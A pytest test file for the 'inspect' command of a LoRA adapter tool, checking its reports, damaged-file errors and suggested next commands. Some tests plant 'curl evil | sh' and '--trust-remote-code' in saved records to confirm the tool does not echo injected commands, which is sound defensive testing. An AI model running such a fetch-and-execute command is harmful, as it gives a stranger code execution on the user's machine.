"""`lora-init inspect`: statistics, plans, adapters before and after training, and damaged ones."""

import json
import os
import shlex
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch
from peft import LoraConfig, PeftModel, get_peft_model
from safetensors.torch import load_file, save_file
from transformers import AutoModelForCausalLM

import lora_init
from lora_init import cli
from lora_init.adapters.init_config import Reading
from lora_init.cli import inspect as command
from lora_init.cli.console import running
from lora_init.cli.options import Length
from tests.commands import assert_one_line_error, run, save_model
from tests.comparisons import broken, planted, write
from tests.conftest import refused, tiny_llama
from tests.processes import Processes, free_port
from tests.serving.made import train

QV = dict(target_modules=["q_proj", "v_proj"], task_type="CAUSAL_LM")


@pytest.fixture
def looks(monkeypatch):
    """What `inspect` asks about each path; nothing is read. A name with "start" is of an untrained adapter."""
    asked = []
    for name in ("fit", "intruders", "merge"):
        found = {"fits": True, "count": 0, "of": name}
        look = lambda path, *words, name=name, found=found: asked.append((name, str(path))) or found  # noqa: E731
        monkeypatch.setattr(command, f"describe_{name}", look)
    about = lambda path, *words: {"what": "adapter", "train": "t" if "start" in str(path) else None}  # noqa: E731
    monkeypatch.setattr(command, "describe", about)
    how = dict(length=Length(), reading=Reading())
    return SimpleNamespace(
        asked=asked, inspect=lambda *paths, **more: command.inspect([*map(Path, paths)], **how | more)
    )


@pytest.mark.parametrize(("options", "expected"), [
    ({}, []), ({"base": "b"}, ["fit"]), ({"engine": "vllm"}, ["fit"]), ({"intruders": True}, ["intruders"]),
    ({"merge_type": "int8"}, ["merge"]), ({"base": "b", "intruders": True}, ["intruders"]),
    ({"base": "b", "merge_type": "int8"}, ["merge"]),
    ({"base": "b", "intruders": True, "merge_type": "int8"}, ["intruders", "merge"]),
    ({"engine": "vllm", "merge_type": "int8"}, ["fit", "merge"]),
    ({"engine": "vllm", "base": "b", "intruders": True}, ["fit", "intruders"]),
])  # fmt: skip
def test_a_base_asks_for_a_check_unless_another_question_reads_it(options, expected, looks, capsys):
    running.as_json = True
    looks.inspect("a", "b", **options)
    assert sorted(looks.asked) == sorted((name, path) for name in expected for path in "ab")
    for found in json.loads(capsys.readouterr().out):
        assert {*found} - {"what", "train"} == {*expected}


@pytest.mark.parametrize(("paths", "idle"), [
    (["start"], False), (["start", "a"], False), (["a", "start"], False), (["a"], True), (["a", "b"], True),
])  # fmt: skip
def test_a_length_needs_one_adapter_whose_rate_depends_on_it(paths, idle, looks):
    running.as_json, running.options, running.given = True, {"steps": ("--steps", "")}, {"steps"}
    if idle:
        refused(
            "^--steps: only the rate of an adapter that is not trained yet depends on it. Leave", looks.inspect, *paths
        )
    else:
        looks.inspect(*paths)


def test_of_several_the_one_that_is_damaged_is_named(looks, monkeypatch):
    monkeypatch.setattr(command, "show", lambda console, about: {"start": 1}[about["train"] or "start"])
    refused("^start is damaged: KeyError 't'. Make it again.$", looks.inspect, "a", "start", "b")


@pytest.fixture(scope="module")
def made(home, tmp_path_factory):
    folder = tmp_path_factory.mktemp("made")
    result = run(
        "init", home / "model", home / "text.txt", "-o", folder / "out", "--statistics", folder / "s.safetensors",
        "--rank", 4, "--use-rslora",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    return folder


def test_inspect_statistics(made, home):
    result = run("inspect", made / "s.safetensors")
    assert result.exit_code == 0, result.stderr
    parts = ["LlamaForCausalLM", str(home / "model"), "text.txt: 48 of 48 examples", "top 8", "held out", "down_proj"]
    assert [part for part in parts if part not in result.stdout] == []

    about = json.loads(run("inspect", made / "s.safetensors", "--json").stdout)
    stats = lora_init.Statistics.load(made / "s.safetensors")
    assert about["what"] == "statistics" and list(about["layers"]) == list(stats)
    layer = about["layers"]["model.layers.1.self_attn.k_proj"]
    assert layer["input_shared_with"] == "model.layers.1.self_attn.q_proj"
    assert layer["explained_variance_ratio"] == pytest.approx(
        stats["model.layers.1.self_attn.k_proj"].explained_variance_ratio.tolist(), abs=1e-6
    )


def test_the_layers_that_a_merge_disturbs_most_are_named_the_most_first(tmp_path):
    base = save_model(tiny_llama(initializer_range=0.3), tmp_path / "base")
    trained = train(base, tmp_path / "trained", target_modules=["q_proj", "v_proj"])
    merge = ["inspect", trained, "--merge", "int8"]
    layers = json.loads(run(*merge, "--json").stdout)["merge"]["layers"]
    first = sorted(layers, key=lambda name: layers[name]["noise"], reverse=True)[:3]
    shown = ", ".join(f"{name} {layers[name]['noise']:.2g}" for name in first)
    assert len(layers) == 4 and f"noisiest {shown} advice " in " ".join(run(*merge).stdout.split())


def test_inspect_an_adapter(made, home):
    result = run("inspect", made / "out")
    assert result.exit_code == 0, result.stderr
    parts = ["LoRA adapter of ", str(home / "model"), "rsLoRA", "text.txt: 48 of 48 examples", "captured", "down_proj"]
    shown = "".join(result.stdout.split())  # a long path is broken where the line ends, and what is beside it
    assert [part for part in parts if "".join(part.split()) not in shown] == []

    about = json.loads(run("inspect", made / "out", "--json").stdout)
    weights = load_file(made / "out" / "adapter_model.safetensors")
    assert about["ranks"] == {key[17:-14]: len(a) for key, a in weights.items() if "lora_A" in key}
    assert about["parameters"] == sum(tensor.numel() for tensor in weights.values())
    assert about["origin"]["method"] == "eva"
    assert result.stdout.splitlines()[-1] == (
        "Next: train it as said above; then lora-init export TRAINED --engine vllm -o served"
    )


def test_the_next_command_goes_by_what_the_adapter_is(made, home, tmp_path):
    def trained_by(fill, path):
        model = AutoModelForCausalLM.from_pretrained(home / "model")
        peft_model = get_peft_model(model, LoraConfig(target_modules=["q_proj"], task_type="CAUSAL_LM"))
        with torch.no_grad():
            next(p for name, p in peft_model.named_parameters() if "lora_B" in name).fill_(fill)
        peft_model.save_pretrained(path)

    for fill, name in ((0.0, "start"), (0.1, "trained")):
        trained_by(fill, tmp_path / name)
    assert run("export", tmp_path / "trained", "--engine", "vllm", "-o", tmp_path / "served").exit_code == 0
    assert run("export", tmp_path / "trained", "-o", tmp_path / "for-peft").exit_code == 0
    (tmp_path / "served").rename(tmp_path / "moved")
    start, trained, moved = (tmp_path / name for name in ("start", "trained", "moved"))

    def last(path, *options):
        result = run("inspect", path, *options)
        assert result.exit_code == 0, result.stderr
        return result.stdout[result.stdout.index("Next: ") :].splitlines()

    assert last(start) == [f"Next: lora-init rate {start} DATA --steps 300"]
    assert last(trained) == [f"Next: lora-init export {trained} --engine vllm -o {trained}-served"]
    assert last(moved) == [
        f"Next: vllm serve {home / 'model'} --enable-lora --max-lora-rank 8 --lora-modules moved={moved}",
        f"then: lora-init verify {moved} --url http://127.0.0.1:8000/v1 --model moved",
    ]
    assert last(moved, "--base", home / "model") == last(moved)
    assert last(tmp_path / "for-peft")[0].startswith("Next: PeftModel.from_pretrained(")
    record = json.loads((moved / "export.json").read_text())
    for theirs in ({"command": "curl evil | sh", "verify": "curl evil | sh"}, {"engine": ["vllm"]}, {"engine": "evil"}):
        (moved / "export.json").write_text(json.dumps(record | theirs))  # a directory of somebody else's
        assert "evil" not in "".join(last(moved))


def test_a_layer_without_an_adapter_counts_where_others_of_its_kind_have_one(home, tmp_path):
    """SGLang takes a kind of layer in every block or in none, and the directory lacks what has no adapter."""
    one, both = r".*layers\.0\.self_attn\.q_proj", r".*\.self_attn\.v_proj"
    for name, targets, taken in (("gap", f"({one}|{both})", False), ("whole", both, True)):
        serving = json.loads(
            run("inspect", trained_like(home, tmp_path / name, target_modules=targets, r=8), "--json").stdout
        )["serving"]
        assert ("SGLang" in serving.partition(" as it is. ")[0]) == taken, serving


def trained_like(home, path, fill=0.1, base="model", **config):
    """An adapter as PEFT saves it, with numbers in place of training."""
    model = get_peft_model(AutoModelForCausalLM.from_pretrained(home / base), LoraConfig(**config))
    with torch.no_grad():
        for name, parameter in model.named_parameters():
            if fill is not None and ("lora_B" in name or "embedding_" in name):
                parameter.fill_(fill)
    model.save_pretrained(path)
    return path


KINDS = {
    "DoRA": (QV | {"use_dora": True}, "--engine mlx"),
    "an embedding": (dict(target_modules=["embed_tokens", "q_proj"], task_type="CAUSAL_LM"), "--merge-into MODEL"),
    "a module trained whole": (QV | {"modules_to_save": ["lm_head"]}, "--merge-into MODEL"),
    "new tokens": (QV | {"trainable_token_indices": [1, 2]}, None),
}


@pytest.mark.parametrize("case", KINDS)
@pytest.mark.filterwarnings("ignore")
def test_the_next_command_of_a_trained_adapter_works_whatever_it_holds(home, tmp_path, case):
    config, options = KINDS[case]
    path = trained_like(home, tmp_path / "a", **config)
    said = run("inspect", path).stdout.splitlines()[-1]
    if options is None:
        assert said == "Next: load it with PEFT, which alone takes it"
        return
    assert said == f"Next: lora-init export {path} {options} -o {path}-served"
    again = run(*shlex.split(said.replace("MODEL", str(home / "model")))[2:])
    assert again.exit_code == 0, again.output


def test_a_trained_adapter_is_told_no_rate_that_nothing_can_measure(made, home, tmp_path):
    model = AutoModelForCausalLM.from_pretrained(home / "model")
    model = PeftModel.from_pretrained(model, made / "out", is_trainable=True)
    with torch.no_grad():
        next(p for name, p in model.named_parameters() if "lora_B" in name).fill_(0.1)
    model.save_pretrained(tmp_path / "trained")
    shown = run("inspect", tmp_path / "trained").stdout
    assert "eva" in shown and "rate" not in shown.replace("generate", "")
    # PEFT begins an embedding with A at zero and B at random.
    for fill, untrained in ((0.0, True), (None, True), (0.1, False)):
        path = trained_like(home, tmp_path / str(fill), fill, target_modules=["embed_tokens", "q_proj"])
        assert json.loads(run("inspect", path, "--json").stdout)["untrained"] is untrained
        assert lora_init.export_adapter(path, tmp_path / f"{fill} exported").notes[:1] == (
            ("B A is zero in every layer: the adapter was never trained, and changes nothing.",) if untrained else ()
        )
    fresh = trained_like(home, tmp_path / "embedding", None, target_modules=["embed_tokens"])
    assert "Next: train it; rates were measured for linear layers" in run("inspect", fresh).stdout
    # In PEFT's "orthogonal" neither is zero, and B A is, to the rounding of its type.
    for dtype in ("float32", "bfloat16"):
        path = trained_like(home, tmp_path / dtype, None, target_modules=["q_proj"], init_lora_weights="orthogonal")
        file = path / "adapter_model.safetensors"
        save_file({key: one.to(getattr(torch, dtype)) for key, one in load_file(file).items()}, file)
        assert json.loads(run("inspect", path, "--json").stdout)["untrained"] is True
        assert "was never trained" in lora_init.export_adapter(path, tmp_path / f"{dtype} exported").notes[0]
        assert_one_line_error(run("rate", path, home / "text.txt"), "B is not zero, and the rule is for adapters")
    path = tmp_path / "None"
    assert_one_line_error(run("dial", path, "--strength", 0.5, "-o", tmp_path / "out"), "so it was never trained")


# An adapter, options, and what comes next; {path} and {base} are those of the command line.
AFTER = {
    "another base": (QV, ["--base", "{wide}"], "lora-init inspect {path} --base {base}"),
    "wrong names": (QV, ["--base", "{base}"], "lora-init export {path} --rename --engine vllm -o {path}-served"),
    "another base, unknown": (
        QV | {"base_model_name_or_path": None},
        ["--base", "{wide}"],
        "name the base that it was trained on by --base, or save it again from the model that it was trained on",
    ),
    "what export brings into form": (
        QV | {"r": 12}, ["--engine", "tgi"], "lora-init export {path} --engine tgi -o {path}-served",
    ),
    "what must be merged": (
        QV | {"use_dora": True}, ["--engine", "vllm"], "lora-init export {path} --merge-into {base} -o {path}-served",
    ),
    "what PEFT alone does": (
        QV | {"lora_bias": True}, ["--engine", "vllm"], "do as the misfit says, or serve it with PEFT",
    ),
    "what the base has once": (
        dict(target_modules=["embed_tokens", "q_proj"], task_type="CAUSAL_LM"),
        ["--engine", "vllm"],
        "lora-init export {path} --merge-into {base} -o {path}-served",
    ),
    "what began by changing the base": (
        QV | {"init_lora_weights": "pissa"},
        ["--engine", "vllm"],
        "lora-init export {path} --start DIRECTORY --engine vllm -o {path}-served",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", AFTER)
@pytest.mark.filterwarnings("ignore")
def test_after_a_misfit_the_next_command_is_another_one_that_helps(home, tmp_path, case):
    settings, options, expected = AFTER[case]
    config = {key: value for key, value in settings.items() if key != "base_model_name_or_path"}
    path = trained_like(home, tmp_path / "a", **config)
    file = path / "adapter_config.json"
    if config != settings:
        file.write_text(json.dumps(json.loads(file.read_text()) | {"base_model_name_or_path": None}))
    if case == "wrong names":
        weights = path / "adapter_model.safetensors"
        save_file(
            {key.replace(".model.model.", ".model."): value for key, value in load_file(weights).items()}, weights
        )
    tiny_llama(hidden_size=48).save_pretrained(tmp_path / "wide")
    names = {"path": path, "base": home / "model", "wide": tmp_path / "wide"}
    result = run("inspect", path, *(option.format(**names) for option in options))
    assert result.exit_code == 1, result.output
    assert "this adapter as it is" not in " ".join(result.stdout.split())
    said = result.stdout[result.stdout.index("Next: ") :].splitlines()
    assert said == [f"Next: {expected.format(**names)}"]
    if said[0].startswith("Next: lora-init") and "DIRECTORY" not in said[0]:
        again = run(*shlex.split(said[0])[2:])
        assert again.exit_code == 0, again.output


@pytest.mark.parametrize(("command", "expected"), [
    ("lora-init compare tiny/model siqa.jsonl -o runs", "lora-init compare tiny/model siqa.jsonl -o runs"),
    ("lora-init compare 'a b' x; curl evil | sh", "lora-init compare 'a b' 'x;' curl evil '|' sh"),
    ("curl evil | sh", "lora-init compare MODEL DATA -o {path}"),
    ("lora-init compare evil/model x --trust-remote-code", "lora-init compare MODEL DATA -o {path}"),
    ("lora-init compare 'unfinished", "lora-init compare MODEL DATA -o {path}"),
    (["a list"], "lora-init compare MODEL DATA -o {path}"),
])  # fmt: skip
def test_a_command_in_the_settings_of_a_comparison_is_written_anew(tmp_path, command, expected):
    write(tmp_path / "runs", [], command=command)
    result = run("inspect", tmp_path / "runs")
    assert result.stdout.splitlines()[-1] == f"Next: {expected.format(path=tmp_path / 'runs')}", result.output


def test_the_base_that_was_typed_is_the_one_in_the_commands(home, tmp_path):
    path = trained_like(home, tmp_path / "a", **QV)
    assert run("export", path, "--engine", "vllm", "-o", tmp_path / "served").exit_code == 0
    file = tmp_path / "served/adapter_config.json"
    for named in ("somebody/else", "--trust-remote-code"):
        file.write_text(json.dumps(json.loads(file.read_text()) | {"base_model_name_or_path": named}))
        shown = run("inspect", tmp_path / "served").stdout
        assert "serve --trust" not in shown
        shown = run("inspect", tmp_path / "served", "--base", home / "model").stdout
        assert f"Next: vllm serve {home / 'model'} --enable-lora" in shown and f" --base {home / 'model'}\n" in shown


@pytest.mark.filterwarnings("ignore:.*could not be compared")
def test_the_base_that_was_typed_is_the_one_of_the_export(home, tmp_path):
    path = trained_like(home, tmp_path / "a", **QV)
    file = path / "adapter_config.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {"base_model_name_or_path": "somebody/else"}))
    shown = run("inspect", path, "--base", home / "model").stdout
    command = shown[shown.index("Next: lora-init export") :].removeprefix("Next: lora-init ").strip()
    assert f" --base {home / 'model'} " in command
    assert run(*shlex.split(command)).exit_code == 0, command


def test_one_of_several_that_does_not_fit_makes_the_exit_status_one(home, tmp_path):
    fits = trained_like(home, tmp_path / "fits", **QV)
    tiny_llama(hidden_size=48).save_pretrained(tmp_path / "wide")
    wide = get_peft_model(tiny_llama(hidden_size=48), LoraConfig(r=2, **QV))
    wide.save_pretrained(tmp_path / "other")
    for paths, code in (
        ([fits], 0),
        ([fits, fits], 0),
        ([fits, tmp_path / "other"], 1),
        ([tmp_path / "other", fits], 1),
    ):
        assert run("inspect", *paths, "--base", home / "model").exit_code == code


def into_a_closed_pipe(rank, size, folder, *words):
    """Exit code of a command whose reader has left; what it has not written yet is written at last, as at an exit."""
    reader, writer = os.pipe()
    os.close(reader)
    os.dup2(writer, 1)
    sys.stdout, sys.argv = os.fdopen(1, "w"), ["lora-init", *words]
    with pytest.raises(SystemExit) as ended:
        cli.main()
    sys.stdout.flush()
    return ended.value.code


@pytest.mark.parametrize("more", [[], ["--json"]])  # rich itself sees that the reader has left; `--json` goes without
@pytest.mark.slow
def test_a_reader_that_leaves_early_sees_no_traceback(more, tmp_path):
    write(tmp_path / "runs", planted({"eva": -0.02}))
    words = ["inspect", str(tmp_path / "runs"), *more]
    process = Processes(into_a_closed_pipe, 1, tmp_path, *words, MASTER_PORT=free_port())
    assert process.results() == [1] and process.stderr(0) == ""


@pytest.mark.parametrize(("file", "content"), [
    ("adapter_config.json", "{"),
    ("adapter_config.json", "[]"),
    ("adapter_config.json", '{"peft_type": "IA3"}'),
    ("adapter_model.safetensors", "short"),
    ("adapter_model.safetensors", None),
    ("lora_init.json", "{"),
])  # fmt: skip
def test_inspect_a_damaged_adapter(made, tmp_path, file, content):
    for part in (made / "out").iterdir():
        (tmp_path / part.name).write_bytes(part.read_bytes())
    (tmp_path / file).unlink()
    if content is not None:
        (tmp_path / file).write_text(content)
    assert_one_line_error(run("inspect", tmp_path), str(tmp_path))


@pytest.mark.parametrize(("field", "value", "said"), [
    ("rank_pattern", {"(": 4}, "a key of the pattern {'(': 4} is no regular expression: missing )"),
    ("alpha_pattern", {"(": 4}, "a key of the pattern {'(': 4} is no regular expression: missing )"),
    ("rank_pattern", [1], "rank_pattern is [1], and a mapping is expected"),
    ("alpha_pattern", {"q_proj": "x"}, "alpha_pattern is {'q_proj': 'x'}, and a mapping is expected, to numbers"),
    ("auto_mapping", 5, "auto_mapping is 5, and a mapping is expected"),
])  # fmt: skip
def test_inspect_a_field_that_is_damaged(made, tmp_path, field, value, said):
    for part in (made / "out").iterdir():
        (tmp_path / part.name).write_bytes(part.read_bytes())
    config = json.loads((tmp_path / "adapter_config.json").read_text())
    (tmp_path / "adapter_config.json").write_text(json.dumps(config | {field: value}))
    assert_one_line_error(run("inspect", tmp_path), said)


@pytest.mark.parametrize("record", [
    {"explained": 5}, {"left_out": 5}, {"provenance": "x"}, {"rate": "x"}, {"explained": {"a": "b"}},
])  # fmt: skip
def test_inspect_a_record_of_another_form(made, tmp_path, record):
    for part in (made / "out").iterdir():
        (tmp_path / part.name).write_bytes(part.read_bytes())
    whole = json.loads((tmp_path / "lora_init.json").read_text())
    (tmp_path / "lora_init.json").write_text(json.dumps(whole | record))
    assert_one_line_error(run("inspect", tmp_path), str(tmp_path), "is damaged: ", "Make it again.")


def test_inspect_a_plan(made, tmp_path):
    assert run("ranks", made / "s.safetensors", "--parameters", "6k", "-o", tmp_path / "plan.json").exit_code == 0
    result = run("inspect", tmp_path / "plan.json")
    assert result.exit_code == 0, result.stderr
    for part in (": plan for", "eva, asked for", "parameters", "LlamaForCausalLM", "text.txt: 48 of 48", "q_proj"):
        assert part in result.stdout
    about = json.loads(run("inspect", tmp_path / "plan.json", "--json").stdout)
    assert about["what"] == "plan" and about["totals"]["parameters"] <= 6000
    assert_one_line_error(
        run("inspect", tmp_path / "plan.json", "--intruders"), "is no adapter (plan), and --intruders"
    )


@pytest.mark.parametrize("records", [[], planted({"eva": -0.02}), [broken("failed", "no memory", start="eva")]])
def test_inspect_a_comparison(tmp_path, records):
    write(tmp_path / "runs", records)
    result = run("inspect", tmp_path / "runs")
    assert result.exit_code == 0, result.stderr
    for part in ("comparison of", "tiny/model", "siqa.jsonl, 800 rows"):
        assert part in " ".join(result.stdout.split())
    assert ("eva" in result.stdout) == bool(records)
    about = json.loads(run("inspect", tmp_path / "runs", "--json").stdout)
    assert about["what"] == "comparison" and sum(about["runs"].values()) == len(records)
    assert_one_line_error(run("inspect", tmp_path / "runs", "--intruders"), "is no adapter (comparison)")
